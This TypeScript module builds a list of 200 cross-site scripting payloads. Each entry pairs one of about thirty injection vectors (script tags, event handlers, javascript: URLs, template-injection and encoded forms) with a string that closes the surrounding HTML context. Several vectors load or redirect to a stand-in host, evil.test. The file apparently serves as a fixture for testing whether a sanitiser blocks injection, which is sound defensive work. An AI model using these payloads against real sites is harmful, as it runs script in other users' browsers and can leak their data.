/** Two hundred notes that want to run in whoever reads them; each would set `self.hit`, or ask evil.test. */
const DO = 'self.hit=1'
const VECTORS = [
  `<script>${DO}</script>`,
  `<img src=x onerror=${DO}>`,
  `<img/src=x/onerror=${DO}//`,
  `<svg onload=${DO}>`,
  `<svg><script>${DO}</script>`,
  `<svg><animate onbegin=${DO} attributeName=x>`,
  `<body onload=${DO}>`,
  `<iframe srcdoc="<script>${DO}</script>">`,
  `<iframe src=javascript:${DO}>`,
  `<a href=javascript:${DO}>x</a>`,
  `<details open ontoggle=${DO}>`,
  `<input autofocus onfocus=${DO}>`,
  `<video><source onerror=${DO}>`,
  `<object data=javascript:${DO}>`,
  `<math href=javascript:${DO}>x`,
  `<form action=javascript:${DO}><button>x`,
  `<style>@import"//evil.test"</style>`,
  `<link rel=stylesheet href=//evil.test>`,
  `<base href=//evil.test>`,
  `<meta http-equiv=refresh content=0;url=//evil.test>`,
  `x onmouseover=${DO} autofocus onfocus=${DO} x`,
  `{{constructor.constructor('${DO}')()}}`,
  `{@html '<img src=x onerror=${DO}>'}`,
  `\${${DO}}`,
  `&lt;script&gt;${DO}&lt;/script&gt;`,
  `%3Cscript%3E${DO}%3C/script%3E`,
  `\\u003cscript>${DO}</script>`,
  `\u2028${DO}//`,
  `=HYPERLINK("//evil.test")`,
]
/** What closes the place a note may be written into. */
const BREAKS = ['', '"', "'", '">', "'>", '</textarea>', '</title>', '</script>', '-->', ']]>']

export const PAYLOADS: readonly string[] = BREAKS.flatMap((end) =>
  VECTORS.map((vector) => (end + vector).trim()),
).slice(0, 200)
